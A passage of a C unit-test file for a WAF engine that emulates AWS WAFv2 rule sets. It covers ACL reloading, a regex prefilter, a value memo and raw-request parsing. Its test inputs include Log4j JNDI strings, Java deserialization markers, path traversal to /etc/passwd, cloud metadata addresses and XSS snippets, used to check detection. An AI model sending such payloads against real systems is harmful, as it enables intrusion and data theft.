    assert_string_equal(v.rule, "AWS-AWSManagedRulesCommonRuleSet");
    assert_string_equal(v.group_rule, "NoUserAgent_HEADER");
    sl_waf_free(w);
}

/* ---- reload ------------------------------------------------------------------------------- */

static void write_file(const char *path, const char *sq) {
    char *j = json_of(sq);
    FILE *f = fopen(path, "w");
    assert_non_null(f);
    fputs(j, f);
    fclose(f);
    free(j);
}

static void test_reload_keeps_the_acl_in_force_when_the_new_file_is_bad(void **state) {
    (void)state;
    char path[] = "/tmp/sluice-waf-test-XXXXXX";
    int fd = mkstemp(path);
    assert_true(fd >= 0);
    close(fd);
    write_file(path, ONE_RULE(BM("/one", "{'UriPath':{}}")));
    struct sl_buf err;
    sl_buf_init(&err, 1 << 16);
    struct sl_waf_opts o = {.acl_file = path};
    struct sl_waf *w = NULL;
    assert_int_equal(sl_waf_open(&o, &w, &err), 0);
    assert_true(blocks(w, "GET", "/one", NULL, NULL));
    write_file(path, "{'DefaultAction':{'Allow':{}},'Rules':[{'Name':1}]}");
    assert_int_equal(sl_waf_reload(w), SL_ERR_PARSE);
    assert_true(blocks(w, "GET", "/one", NULL, NULL)); /* still the old ACL */
    write_file(path, ONE_RULE(BM("/two", "{'UriPath':{}}")));
    assert_int_equal(sl_waf_reload(w), 0);
    assert_false(blocks(w, "GET", "/one", NULL, NULL));
    assert_true(blocks(w, "GET", "/two", NULL, NULL));
    sl_waf_free(w);
    /* A bad file at start is an error naming the file and the JSON path. */
    write_file(path, "{'DefaultAction':{'Allow':{}},'Rules':[{'Name':1}]}");
    sl_buf_reset(&err);
    assert_int_equal(sl_waf_open(&o, &w, &err), SL_ERR_PARSE);
    char want[256];
    snprintf(want, sizeof want, "%s: Rules[0].Name: must be a string\n", path);
    assert_true(strncmp(err.data, want, strlen(want)) == 0);
    sl_buf_free(&err);
    unlink(path);
}

/*
 * The Vectorscan prefilter (prefilter.c) may only skip PCRE2 when PCRE2 would not match: every
 * RegexString of the shipped documents long enough to get a prefilter, on the patterns' own
 * examples, near misses and benign values. Also checks the fast path is there: the benign values
 * are rejected without PCRE2 by the Java deserialization pattern.
 */
static void test_regex_prefilter_never_skips_a_match(void **state) {
    (void)state;
    static const char *const inputs[] = {
        "java.lang.Runtime",
        "JAVA.LANG.RUNTIME",
        "java.lang.runtim",
        "java.langRuntime",
        "Runtime.getRuntime().exec(\"id\")",
        "getruntime (",
        "getruntime",
        ".exec  (x)",
        ".exe(",
        "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ",
        "ro0ab",
        "RO0AB",
        "rO0A",
        "aced0005",
        "ACED0005",
        "aced000",
        "\xac\xed\x00\x05",
        "\xac\xed\x00",
        "class.module.classLoader",
        "class.classloader",
        "class.classloade",
        "spring.cloud.function.routing-expression",
        "T(java.lang.Runtime)",
        "T ( java.",
        "T(javax",
        "ysoserial",
        "__${x}",
        "__$x",
        "com.sun.jndi.rmi",
        "java.io.File",
        "java.io.Filex",
        "java.io.FileWriter",
        "org.apache.commons.collections4.functors",
        "org.apache.commons.collections.transformer",
        "org.apache.commons.collectionsx.functors",
        "groovy.lang.GroovyShell",
        "sun.rmi.server",
        "cnVudGltZQ==",
        "cnvudgltzq",
        "Y2xvbmV0cmFuc2Zvcm1lcg",
        "processbuilder(",
        "ProcessBuilder",
        "runtime.clonetransformer",
        "runtime.x.getproperty",
        "runtime getproperty",
        "${jndi:ldap://x/a}",
        "${${lower:j}ndi:x}",
        "${::-j}",
        "${env:HOME}",
        "${x",
        "$ {jndi:",
        "169.254.169.254",
        "0xa9fea9fe",
        "2852039166",
        "[fd00:ec2::254]",
        "169.254.169.25",
        "../../etc/passwd",
        "/etc/passwd",
        "..\\..\\win.ini",
        "/proc/self/environ",
        "etc/passwd",
        "http://10.0.0.1/x",
        "ftp://192.168.1.1/",
        "http://example.com/",
        "file://1.2.3.4",
        "index.php.bak",
        "/web-inf/web.xml",
        "/.git/config",
        "manager/html",
        "nessus",
        "sqlmap/1.0",
        "python-requests/2.31.0",
        "application/json",
        "api.example.com",
        "sk_live_9f8e7d6c5b4a39281706f5e4d3c2b1a0",
        "session=eyJhbGciOiJIUzI1NiJ9.e30.abc",
        "Mozilla/5.0 (X11; Linux x86_64)",
        "{\"customer\":\"c_123\",\"note\":\"leave at the door\"}",
        "",
        "a",
        "runtime",
        "java",
        "java.",
        "x-api-key",
        "content-type",
        "user-agent",
    };
    static const char *const benign[] = {
        "python-requests/2.31.0",
        "application/json",
        "api.example.com",
        "sk_live_9f8e7d6c5b4a39281706f5e4d3c2b1a0",
        "user-agent",
        "content-type",
    };
    static const char *const docs[] = {"AWSManagedRulesKnownBadInputsRuleSet.json",
                                       "AWSManagedRulesCommonRuleSet.json",
                                       "AWSManagedRulesSQLiRuleSet.json"};
    size_t prefiltered = 0;
    bool java_seen = false;
    for (size_t d = 0; d < sizeof docs / sizeof docs[0]; d++) {
        size_t len = 0;
        const char *json = gw_waf_data(docs[d], &len);
        assert_non_null(json);
        cJSON *doc = cJSON_ParseWithLength(json, len);
        assert_non_null(doc);
        const cJSON *rules = cJSON_GetObjectItemCaseSensitive(doc, "Rules");
        for (const cJSON *r = rules ? rules->child : NULL; r; r = r->next) {
            const cJSON *st = cJSON_GetObjectItemCaseSensitive(r, "Statement");
            const cJSON *rm = cJSON_GetObjectItemCaseSensitive(st, "RegexMatchStatement");
            const cJSON *rs = cJSON_GetObjectItemCaseSensitive(rm, "RegexString");
            if (!cJSON_IsString(rs))
                continue;
            const char *re = rs->valuestring;
            int ec;
            PCRE2_SIZE off;
            pcre2_code *code =
                pcre2_compile((PCRE2_SPTR)re, PCRE2_ZERO_TERMINATED, 0, &ec, &off, NULL);
            assert_non_null(code);
            pcre2_match_data *md = pcre2_match_data_create_from_pattern(code, NULL);
            struct gw_waf_stmt s = {.kind = GW_STMT_REGEX};
            gw_waf_prefilter_build(re, 1, &s);
            if (s.u.regex.hs_db)
                prefiltered++;
            /* Three rounds: the remembered misses (short values the prefilter found nothing in)
             * must never answer for a value that matches: the second round meets the first's
             * entries, the third meets slots reused by 2,000 other values. */
            for (int round = 0; round < 3; round++) {
                for (size_t i = 0; i < sizeof inputs / sizeof inputs[0]; i++) {
                    /* The two byte strings carry NULs: their length is the literal's. */
                    size_t n = strlen(inputs[i]);
                    if (inputs[i][0] == '\xac')
                        n = inputs[i][3] == '\x05' ? 4 : 3;
                    for (int pass = 0; pass < 2; pass++) {
                        size_t len_i = pass == 0 ? n : (n ? n - 1 : 0); /* also a truncation */
                        bool pcre =
                            pcre2_match(code, (PCRE2_SPTR)inputs[i], len_i, 0, 0, md, NULL) >= 0;
                        if (pcre && !gw_waf_prefilter_may_match(&s, inputs[i], len_i, true))
                            fail_msg("prefilter of %s skips %.*s", re, (int)len_i, inputs[i]);
                    }
                }
                for (int v = 0; round == 1 && v < 2000; v++) {
                    char value[40];
                    int vlen = snprintf(value, sizeof value, "value-%d-%x", v, (unsigned)v * 7919u);
                    bool pcre =
                        pcre2_match(code, (PCRE2_SPTR)value, (size_t)vlen, 0, 0, md, NULL) >= 0;
                    if (pcre && !gw_waf_prefilter_may_match(&s, value, (size_t)vlen, true))
                        fail_msg("prefilter of %s skips %s", re, value);
                    if (!pcre)
                        gw_waf_prefilter_may_match(&s, value, (size_t)vlen, true);
                }
            }
            if (strstr(re, "processbuilder") && s.u.regex.hs_db) {
                java_seen = true;
                for (int again = 0; again < 2; again++) /* the second time from memory */
                    for (size_t i = 0; i < sizeof benign / sizeof benign[0]; i++)
                        assert_false(
                            gw_waf_prefilter_may_match(&s, benign[i], strlen(benign[i]), true));
                assert_true(gw_waf_prefilter_may_match(&s, "x java.lang.Runtime", 19, true));
                assert_true(gw_waf_prefilter_may_match(&s, "x java.lang.Runtime", 19, true));
                /* One byte away from a remembered benign value, and a match: scanned, found. */
                assert_false(gw_waf_prefilter_may_match(&s, "x java.lang.Runtimf", 19, true));
                assert_true(gw_waf_prefilter_may_match(&s, "x java.lang.Runtime", 19, true));
            }
            gw_waf_prefilter_free(&s);
            pcre2_match_data_free(md);
            pcre2_code_free(code);
        }
        cJSON_Delete(doc);
    }
    assert_true(java_seen);
    assert_true(prefiltered >= 4);
}

/* ---- the memo of values seen before ------------------------------------------------------- */

static struct sl_waf *open_default(bool memo_off) {
    struct sl_buf err;
    sl_buf_init(&err, 1 << 16);
    struct sl_waf_opts o = {.clock_ms = fake_clock, .memo_off = memo_off};
    struct sl_waf *w = NULL;
    assert_int_equal(sl_waf_open(&o, &w, &err), 0);
    sl_buf_free(&err);
    return w;
}

/* The same verdict, rule for rule and label for label. */
static void assert_same_verdict(const struct sl_waf_verdict *a, const struct sl_waf_verdict *b,
                                const char *what) {
    if (a->action != b->action || strcmp(a->rule, b->rule) ||
        strcmp(a->group_rule ? a->group_rule : "", b->group_rule ? b->group_rule : "") ||
        a->nlabels != b->nlabels)
        fail_msg("%s: %s %s/%s with the memo, %s %s/%s without", what,
                 sl_waf_action_name(a->action), a->rule, a->group_rule ? a->group_rule : "",
                 sl_waf_action_name(b->action), b->rule, b->group_rule ? b->group_rule : "");
    for (size_t i = 0; i < a->nlabels; i++)
        assert_string_equal(a->labels[i], b->labels[i]);
}

static void test_value_memo_never_hides_a_match(void **state) {
    (void)state;
    /* Benign values, attacks in the same places (path, query string, headers, body), values one
     * byte from each other, an attack after 192 bytes (too long to be remembered) and one at
     * exactly 192. */
    char long_ua[300], edge_ua[193];
    memset(long_ua, 'a', sizeof long_ua);
    memcpy(long_ua + 200, "sqlmap/1.0", 11);
    memset(edge_ua, 'b', sizeof edge_ua);
    memcpy(edge_ua + 186, "nikto", 6); /* 191 bytes + NUL */
    char long_hdr[320], edge_hdr[220];
    snprintf(long_hdr, sizeof long_hdr, "User-Agent: %s", long_ua);
    snprintf(edge_hdr, sizeof edge_hdr, "User-Agent: %sx", edge_ua); /* 192 bytes */
    static const char *const paths[] = {"/items/42",
                                        "/items/43",
                                        "/items/../../etc/passwd",
                                        "/items/42.bak",
                                        "/items/42",
                                        "/WEB-INF/web.xml",
                                        "/items/%2e%2e/%2e%2e/etc/passwd",
                                        "/items/42?q=1",
                                        "/items/42?q=${jndi:ldap://x/a}",
                                        "/items/42?q=${jndi:ldap://x/b}",
                                        "/items/42"};
    static const char *const bodies[] = {NULL, "{\"a\":1}", "<script>alert(1)</script>",
                                         "{\"a\":2}", "${jndi:ldap://x/c}"};
    const char *const hdrs[] = {UA,
                                "User-Agent: sqlmap/1.0",
                                "User-Agent: sqlmap/1.1",
                                "User-Agent: sqlmaq/1.0",
                                "Host: api.example.com",
                                "Host: localhost",
                                "Host: localhosu",
                                "X-Api-Key: sk_live_0123456789abcdef",
                                "X-Api-Key: ${jndi:ldap://x/a}",
                                "X-Api-Key: ${jndi:ldap://x/b}",
                                "Referer: java.lang.Runtime.getRuntime().exec",
                                "X-java.lang.Runtime.getRuntime: 1",
                                "Referer: java.lang.Runtimx",
                                "Cookie: s=<script>alert(1)</script>",
                                "Cookie: s=abc",
                                long_hdr,
                                edge_hdr};
    struct sl_waf *w = open_default(false), *w0 = open_default(true);
    size_t blocked = 0, total = 0;
    for (int round = 0; round < 3; round++) {
        for (size_t k = 0; k < sizeof paths / sizeof paths[0] * (sizeof bodies / sizeof bodies[0]);
             k++)
            for (size_t h = 0; h < sizeof hdrs / sizeof hdrs[0]; h++) {
                size_t p = k % (sizeof paths / sizeof paths[0]);
                const char *body = bodies[k / (sizeof paths / sizeof paths[0])];
                struct req q;
                mk(&q, body ? "POST" : "GET", paths[p], body, UA, "Accept: application/json",
                   hdrs[h], NULL);
                struct sl_waf_verdict a = judge(w, &q, NULL), b = judge(w0, &q, NULL);
                char what[400];
                snprintf(what, sizeof what, "round %d, %s + %.60s + %s", round, paths[p], hdrs[h],
                         body ? body : "no body");
                assert_same_verdict(&a, &b, what);
                blocked += a.action == SL_WAF_BLOCK;
                total++;
            }
        /* Between rounds two and three, 3,000 other values take the slots over. */
        for (int v = 0; round == 1 && v < 3000; v++) {
            char ua[64];
            snprintf(ua, sizeof ua, "User-Agent: client-%d/%x", v, (unsigned)v * 7919u);
            struct req q;
            mk(&q, "GET", "/items/42", NULL, ua, NULL);
            struct sl_waf_verdict a = judge(w, &q, NULL), b = judge(w0, &q, NULL);
            assert_same_verdict(&a, &b, ua);
        }
    }
    assert_true(blocked > total / 3 && blocked < total); /* both kinds were there */
    assert_true(sl_waf_memo_hits(w) > total);            /* and the memo answered */
    assert_int_equal(sl_waf_memo_hits(w0), 0);
    sl_waf_free(w);
    sl_waf_free(w0);
}

/* A statement is cleared by its own verdicts only: the Count rule before it (its neighbour in
 * the numbering) learns "no match" on every field, and the Block rule must still match each
 * time. */
static void test_value_memo_clears_a_statement_by_its_own_verdicts_only(void **state) {
    (void)state;
    static const char *const fields[] = {"{'UriPath':{}}",
                                         "{'QueryString':{}}",
                                         "{'Body':{}}",
                                         "{'Method':{}}",
                                         "{'SingleHeader':{'Name':'x-a'}}",
                                         "{'Headers':{'MatchPattern':{'All':{}},'MatchScope':"
                                         "'ALL','OversizeHandling':'CONTINUE'}}"};
    for (size_t f = 0; f < sizeof fields / sizeof fields[0]; f++) {
        char doc[2048];
        snprintf(doc, sizeof doc,
                 "{'Name':'t','DefaultAction':{'Allow':{}},'Rules':["
                 "{'Name':'A','Priority':0,'Action':{'Count':{}},'VisibilityConfig':{"
                 "'MetricName':'A'},'Statement':{'RegexMatchStatement':{'RegexString':'zzz',"
                 "'FieldToMatch':%s,'TextTransformations':[{'Priority':0,'Type':'NONE'}]}}},"
                 "{'Name':'B','Priority':1,'Action':{'Block':{}},'VisibilityConfig':{"
                 "'MetricName':'B'},'Statement':{'RegexMatchStatement':{'RegexString':'EVIL',"
                 "'FieldToMatch':%s,'TextTransformations':[{'Priority':0,'Type':'NONE'}]}}}]}",
                 fields[f], fields[f]);
        struct sl_waf *w = open_acl(doc);
        for (int i = 0; i < 3; i++) {
            struct req q;
            mk(&q, "EVIL", "/EVIL?EVIL", "EVIL", "X-A: EVIL", NULL);
            struct sl_waf_verdict v = judge(w, &q, NULL);
            if (v.action != SL_WAF_BLOCK || strcmp(v.rule, "B"))
                fail_msg("%s, request %d: %s by %s", fields[f], i, sl_waf_action_name(v.action),
                         v.rule);
        }
        assert_true(sl_waf_memo_hits(w) > 0);
        sl_waf_free(w);
    }
}

/* A header's name is one of the values a Headers statement reads: values the memo knows clear
 * do not clear a request whose header name matches. */
static void test_value_memo_reads_header_names_too(void **state) {
    (void)state;
    struct sl_waf *w = open_acl(
        ONE_RULE("{'RegexMatchStatement':{'RegexString':'EVIL','FieldToMatch':{'Headers':{"
                 "'MatchPattern':{'All':{}},'MatchScope':'ALL','OversizeHandling':'CONTINUE'}},"
                 "'TextTransformations':[{'Priority':0,'Type':'NONE'}]}}"));
    for (int i = 0; i < 3; i++) {
        struct req q;
        mk(&q, "GET", "/", NULL, "X-A: fine", NULL);
        assert_int_equal(judge(w, &q, NULL).action, SL_WAF_ALLOW);
        mk(&q, "GET", "/", NULL, "EVIL: fine", NULL);
        assert_int_equal(judge(w, &q, NULL).action, SL_WAF_BLOCK);
    }
    assert_true(sl_waf_memo_hits(w) > 0);
    sl_waf_free(w);
}

/*
 * Two values of one request that share a memo slot: the second takes it over, and the first,
 * asked about again by a later statement, must be looked up again, not read (and written) as
 * the other's entry. The known-bad-inputs group's Java deserialisation rule reads both values
 * first (the benign one, then the attack, which it does not catch); its Log4j rule then reads
 * the benign one (learning "no match") and the attack, which it must still catch.
 */
static void test_value_memo_slot_taken_over_mid_request(void **state) {
    (void)state;
    const char *benign = "benign-client-value";
    uint64_t slot = gw_waf_hash_bytes(benign, strlen(benign)) >> 56;
    char attack[64];
    int found = 0;
    for (int i = 0; i < 100000 && !found; i++) {
        snprintf(attack, sizeof attack, "${jndi:ldap://x/%d}", i);
        found = gw_waf_hash_bytes(attack, strlen(attack)) >> 56 == slot;
    }
    assert_true(found);
    char h1[96], h2[96];
    snprintf(h1, sizeof h1, "X-A: %s", benign);
    snprintf(h2, sizeof h2, "X-B: %s", attack);
    struct sl_waf *w = open_default(false), *w0 = open_default(true);
    for (int round = 0; round < 3; round++) {
        struct req q;
        mk(&q, "GET", "/items/42", NULL, UA, h1, h2, NULL);
        struct sl_waf_verdict a = judge(w, &q, NULL), b = judge(w0, &q, NULL);
        assert_same_verdict(&a, &b, attack);
        assert_int_equal(a.action, SL_WAF_BLOCK);
        assert_string_equal(a.group_rule, "Log4JRCE_HEADER");
    }
    sl_waf_free(w);
    sl_waf_free(w0);
}

/* The lenient reader of `sluicectl waf eval` and bench/waf: streams of requests, hand-pasted
 * or malformed ones. */
static void assert_slice(struct sl_str got, const char *want) {
    assert_int_equal(got.len, strlen(want));
    assert_memory_equal(got.p, want, got.len);
}

static void test_raw_requests_are_read_leniently_one_after_another(void **state) {
    (void)state;
    static const char in[] = "\r\n\nPOST /a/b?x=1&y HTTP/1.1\r\nHost: h\r\nno colon here\r\n"
                             "Content-Length: 3\r\nX-Tab:\t v \r\n\r\nabcGET /c HTTP/1.0\n"
                             "A: 1\nB: 2\nC: 3\n\nrest is a body\n\nJUNK\n";
    const char *p = in, *end = in + sizeof in - 1;
    struct sl_http_request r;
    struct sl_http_header hs[2];
    assert_true(sl_waf_read_raw_request(&p, end, false, &r, hs, 2));
    assert_slice(r.method, "POST");
    assert_slice(r.url, "/a/b?x=1&y");
    assert_slice(r.path, "/a/b");
    assert_slice(r.query, "x=1&y");
    assert_int_equal(r.nheaders, 2); /* the line without a colon is skipped; the limit is 2 */
    assert_slice(r.headers[0].name, "Host");
    assert_slice(r.headers[1].value, "3");
    assert_int_equal(r.body_len, 3);
    assert_memory_equal(r.body, "abc", 3);
    /* Content-Length of the second is absent: no body, the next request follows. */
    assert_true(sl_waf_read_raw_request(&p, end, false, &r, hs, 2));
    assert_slice(r.method, "GET");
    assert_slice(r.url, "/c");
    assert_int_equal(r.query.len, 0);
    assert_int_equal(r.nheaders, 2);
    assert_int_equal(r.body_len, 0);
    assert_true(sl_waf_read_raw_request(&p, end, false, &r, hs, 2));
    assert_slice(r.method, "rest"); /* "rest is a body" read as a request line */
    assert_slice(r.url, "is");
    assert_true(sl_waf_read_raw_request(&p, end, false, &r, hs, 2));
    assert_slice(r.method, "JUNK"); /* no space: all method, URL "/" */
    assert_slice(r.url, "/");
    assert_slice(r.path, "/");
    assert_false(sl_waf_read_raw_request(&p, end, false, &r, hs, 2));

    /* One record per request (bench/waf): the body is everything after the blank line, and a
     * Content-Length larger than what is left is cut to it. */
    static const char rec[] = "PUT /x HTTP/1.1\r\nContent-Length: 99\r\n\r\nbody\r\n\r\nmore";
    p = rec;
    assert_true(sl_waf_read_raw_request(&p, rec + sizeof rec - 1, true, &r, hs, 2));
    assert_int_equal(r.body_len, sizeof rec - 1 - (size_t)(r.body - rec));
    assert_memory_equal(r.body, "body\r\n\r\nmore", r.body_len);
    p = rec;
    assert_true(sl_waf_read_raw_request(&p, rec + sizeof rec - 1, false, &r, hs, 2));
    assert_memory_equal(r.body, "body\r\n\r\nmore", r.body_len);
    assert_ptr_equal(p, rec + sizeof rec - 1);
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_an_acl_with_no_rules_allows_by_default_action),
        cmocka_unit_test(test_regex_prefilter_never_skips_a_match),
        cmocka_unit_test(test_value_memo_never_hides_a_match),
        cmocka_unit_test(test_value_memo_slot_taken_over_mid_request),
        cmocka_unit_test(test_value_memo_clears_a_statement_by_its_own_verdicts_only),
        cmocka_unit_test(test_value_memo_reads_header_names_too),
        cmocka_unit_test(test_default_action_block_blocks_unmatched_requests),
        cmocka_unit_test(test_invalid_documents_name_the_json_path_and_reason),
        cmocka_unit_test(test_bare_rules_list_webacl_wrapper_and_camel_case_all_load),
        cmocka_unit_test(test_byte_match_honours_every_positional_constraint),
        cmocka_unit_test(test_byte_match_accepts_a_base64_search_string),
        cmocka_unit_test(test_regex_match_uses_pcre_syntax),
        cmocka_unit_test(test_regex_pattern_set_reference_resolves_by_arn),
        cmocka_unit_test(test_size_constraint_compares_with_every_operator),
        cmocka_unit_test(test_sqli_and_xss_statements_call_the_detectors),
        cmocka_unit_test(test_ip_set_matches_ipv4_and_ipv6_cidrs),
        cmocka_unit_test(test_ip_set_reference_by_arn_and_forwarded_ip_config),
        cmocka_unit_test(test_forwarded_ip_is_read_only_from_a_trusted_proxy),
        cmocka_unit_test(test_rate_based_rule_blocks_over_the_limit_until_the_window_passes),
        cmocka_unit_test(test_rate_based_scope_down_and_forwarded_ip_and_constant_keys),
        cmocka_unit_test(test_rate_table_memory_is_bounded_and_evicts_the_stalest),
        cmocka_unit_test(test_default_acl_rate_rule_allows_2000_per_5_minutes_per_address),
        cmocka_unit_test(test_count_adds_labels_that_a_later_label_match_sees),
        cmocka_unit_test(test_and_or_not_combine_statements),
        cmocka_unit_test(test_fields_inspect_the_parts_aws_names),
        cmocka_unit_test(test_body_inspection_stops_at_16_kib_and_applies_oversize_handling),
        cmocka_unit_test(test_json_body_inspects_keys_or_values),
        cmocka_unit_test(test_every_transformation_has_wafv2_semantics),
        cmocka_unit_test(test_transformations_run_on_every_value_they_change),
        cmocka_unit_test(test_transformations_apply_in_priority_order),
        cmocka_unit_test(test_block_with_custom_response_carries_status_body_and_headers),
        cmocka_unit_test(test_allow_terminates_before_later_blocks),
        cmocka_unit_test(test_default_acl_lets_a_normal_api_request_through),
        cmocka_unit_test(test_default_acl_core_rule_set_blocks_with_aws_rule_names_and_labels),
        cmocka_unit_test(test_default_acl_known_bad_inputs_block_with_aws_rule_names),
        cmocka_unit_test(test_excluded_rules_and_overrides_turn_group_rules_into_count),
        cmocka_unit_test(test_override_action_count_makes_the_whole_group_count),
        cmocka_unit_test(test_an_acl_exported_from_aws_with_every_statement_kind_evaluates),
        cmocka_unit_test(test_reload_keeps_the_acl_in_force_when_the_new_file_is_bad),
        cmocka_unit_test(test_raw_requests_are_read_leniently_one_after_another),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
